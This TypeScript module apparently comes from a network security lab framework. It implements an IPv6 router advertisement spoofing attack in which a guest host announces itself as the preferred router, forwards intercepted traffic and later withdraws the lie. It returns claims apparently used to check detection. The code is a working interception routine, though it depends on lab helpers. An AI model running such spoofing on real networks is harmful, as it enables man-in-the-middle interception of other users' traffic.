import { type Attack, type Intensity, intensities } from '../contracts.ts';
import { hostPlans } from '../layout.ts';
import { programPath } from '../programs/run-program.ts';
import { relayed6, runAndRestore, whileForwarding } from './interception.ts';
import { allNodes, routerAdvertisement } from './neighbour-frames.ts';

const periods: Readonly<Record<Intensity, number>> = { quiet: 30, medium: 8, loud: 0.5 };
const lifetimeSeconds = 1800;
const restoreSeconds = 3;
/** An address of its own for the lie: what is said to and from it belongs to the attack. */
const liar = 'fe80::bad:66';
const liarGroup = 'ff02::1:ffad:66';

/** Our own sender: "I am the better router", to everybody; what comes is passed on; taken back at the end. */
export const routerSpoofing: Attack = {
  kind: 'router-advertisement-spoofing',
  summary: 'a host says over IPv6 that it is the router',
  needs: [],
  intensities,
  actor: 'guest',
  targets: ['router'],
  async run({ lab, intensity, actor, seconds, signal }) {
    await actor.machine.attempt('ip', ['-6', 'address', 'add', `${liar}/64`, 'dev', 'eth0', 'nodad']);
    const ends = {
      sourceMac: actor.mac,
      source: liar,
      destinationMac: allNodes.mac,
      destination: allNodes.address,
    };
    const [lie, truth] = [lifetimeSeconds, 0].map(life =>
      Buffer.from(routerAdvertisement(ends, life, actor.address6)).toString('hex'),
    );
    const words = [programPath('frame-repeater'), 'eth0', String(periods[intensity]), lie ?? '', truth ?? ''];
    const limits = { seconds: Math.max(1, seconds - 1), restoreSeconds, signal };
    await whileForwarding(actor, 6, () => runAndRestore(actor, process.execPath, words, limits));
    await actor.machine.attempt('ip', ['-6', 'address', 'del', `${liar}/64`, 'dev', 'eth0']);
    const hosts = hostPlans.flatMap(({ name }) => (lab.has(name) ? [lab.host(name)] : []));
    const victims = hosts.filter(({ name, plan }) => plan.role === 'inside' && name !== actor.name);
    const outside = hosts.filter(({ plan }) => plan.role === 'outside');
    return {
      tool: 'our own sender',
      arguments: `every ${periods[intensity]} s from ${liar}, ${lifetimeSeconds} s, high preference`,
      claims: [{ actors: [liar, liarGroup], protocol: 'icmpv6' }, ...relayed6(actor, victims, outside)],
    };
  },
};
